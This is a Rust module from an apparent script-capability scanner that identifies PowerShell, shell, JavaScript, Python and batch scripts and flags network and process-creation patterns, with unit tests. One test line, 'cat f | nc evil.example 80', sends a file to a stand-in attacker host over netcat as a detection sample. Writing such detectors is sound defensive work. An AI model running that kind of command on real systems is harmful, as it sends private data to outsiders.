//! Pattern rules over scripts: PowerShell, shell, JavaScript, Python and Windows
//! command scripts (`.cmd`, `.bat`).
//!
//! Owns recognising a script (by extension, or by its `#!` line) and finding the map's
//! patterns in it. Conservative by design: a pattern is an API that does the thing,
//! matched as text (PowerShell and batch case-insensitively), starting at a word boundary when
//! it starts with a letter, so `nc ` does not match inside `rsync `. Comments and
//! strings are not told apart: a script that *mentions* `Invoke-WebRequest` is asked
//! to declare the network, which a reviewer can wave through. Files are read in
//! windows of [`WINDOW`] bytes, so memory does not grow with the script.

use std::io::Read;
use std::path::Path;

use super::map::{CapabilityMap, Language};

/// Bytes of a script examined at once.
pub const WINDOW: usize = 1 << 20;

/// Bytes kept from one window to the next so a pattern across the seam is found
/// (longer than every pattern of the map).
const OVERLAP: usize = 256;

/// The script language of a file, from its extension or its `#!` line.
pub fn language(path: &str, head: &[u8]) -> Option<Language> {
    let extension = path.rsplit_once('.').map(|(_, e)| e.to_ascii_lowercase());
    let by_extension = match extension.as_deref() {
        Some("ps1" | "psm1" | "psd1") => Some(Language::PowerShell),
        Some("sh" | "bash" | "zsh" | "ksh") => Some(Language::Shell),
        Some("js" | "mjs" | "cjs") => Some(Language::JavaScript),
        Some("py" | "pyw") => Some(Language::Python),
        Some("cmd" | "bat") => Some(Language::Batch),
        _ => None,
    };
    by_extension.or_else(|| {
        let line = head.strip_prefix(b"#!")?;
        let line = String::from_utf8_lossy(line.split(|b| *b == b'\n').next().unwrap_or_default()).into_owned();
        let interpreter =
            line.split_whitespace().find(|w| !w.ends_with("/env") && *w != "env" && !w.starts_with('-'))?;
        let name = interpreter.rsplit('/').next().unwrap_or(interpreter);
        match name {
            "sh" | "bash" | "dash" | "zsh" | "ksh" => Some(Language::Shell),
            "pwsh" | "powershell" => Some(Language::PowerShell),
            "node" | "deno" | "bun" => Some(Language::JavaScript),
            n if n.starts_with("python") => Some(Language::Python),
            _ => None,
        }
    })
}

/// One pattern found: the class (an index into the map's classes) and the pattern.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Match {
    /// Index of the class in [`CapabilityMap::classes`].
    pub class: usize,
    /// The pattern as the map writes it.
    pub pattern: String,
}

/// The patterns of `map` found in the script at `path` (each class and pattern once).
pub fn scan(path: &Path, language: Language, map: &CapabilityMap) -> std::io::Result<Vec<Match>> {
    let mut file = std::fs::File::open(path)?;
    let mut found: Vec<Match> = Vec::new();
    let mut window: Vec<u8> = Vec::with_capacity(WINDOW + OVERLAP);
    let mut buf = vec![0u8; WINDOW];
    loop {
        let n = read_full(&mut file, &mut buf)?;
        if n == 0 {
            break;
        }
        window.extend_from_slice(&buf[..n]);
        let text = String::from_utf8_lossy(&window);
        let text = if language.ignores_case() { text.to_lowercase() } else { text.into_owned() };
        for (class, info) in map.classes.iter().enumerate() {
            for pattern in info.scripts.get(&language).into_iter().flatten() {
                if !found.iter().any(|m| m.class == class && &m.pattern == pattern) && contains_word(&text, pattern) {
                    found.push(Match { class, pattern: pattern.clone() });
                }
            }
        }
        let keep = window.len().saturating_sub(OVERLAP);
        window.drain(..keep);
        if n < buf.len() {
            break;
        }
    }
    Ok(found)
}

fn read_full(file: &mut std::fs::File, buf: &mut [u8]) -> std::io::Result<usize> {
    let mut filled = 0;
    while filled < buf.len() {
        match file.read(&mut buf[filled..])? {
            0 => break,
            n => filled += n,
        }
    }
    Ok(filled)
}

/// `pattern` in `text`, not preceded by a word character when it starts with one.
fn contains_word(text: &str, pattern: &str) -> bool {
    let needs_boundary = pattern.chars().next().is_some_and(|c| c.is_alphanumeric() || c == '_');
    text.match_indices(pattern).any(|(at, _)| {
        !needs_boundary || !text[..at].chars().next_back().is_some_and(|c| c.is_alphanumeric() || c == '_')
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use trellis_schema::analysis::Capability;

    #[test]
    fn languages_by_extension_and_shebang() {
        assert_eq!(language("bin/any/run.PS1", b""), Some(Language::PowerShell));
        assert_eq!(language("bin/any/run", b"#!/usr/bin/env python3\nprint(1)"), Some(Language::Python));
        assert_eq!(language("bin/any/run", b"#!/bin/sh -e\n"), Some(Language::Shell));
        assert_eq!(language("bin/any/run", b"#!/usr/bin/env -S node --x\n"), Some(Language::JavaScript));
        assert_eq!(language("docs/README.md", b"# hi"), None);
    }

    fn classes(text: &str, language: Language) -> Vec<Capability> {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("s");
        std::fs::write(&path, text).unwrap();
        let map = CapabilityMap::builtin();
        scan(&path, language, map).unwrap().iter().map(|m| map.classes[m.class].capability).collect()
    }

    #[test]
    fn finds_patterns_with_word_boundaries() {
        assert_eq!(classes("sync -f x\n", Language::Shell), vec![]);
        assert_eq!(classes("cat f | nc evil.example 80\n", Language::Shell), vec![Capability::Network]);
        assert_eq!(
            classes("$r = INVOKE-WebRequest -Uri $u\nStart-Process calc", Language::PowerShell),
            vec![Capability::Network, Capability::ProcessCreation]
        );
        assert_eq!(
            classes("import subprocess\nsubprocess.run(['ls'])", Language::Python),
            vec![Capability::ProcessCreation]
        );
        assert_eq!(classes("const re = /a/; re.exec('a');", Language::JavaScript), vec![]);
    }

    #[test]
    fn a_pattern_across_window_seams_is_found_and_memory_stays_bounded() {
        let mut text = "x".repeat(WINDOW - 5);
        text.push_str("\nimport socket\n");
        text.push_str(&"y".repeat(3 * WINDOW));
        assert_eq!(classes(&text, Language::Python), vec![Capability::Network]);
    }
}
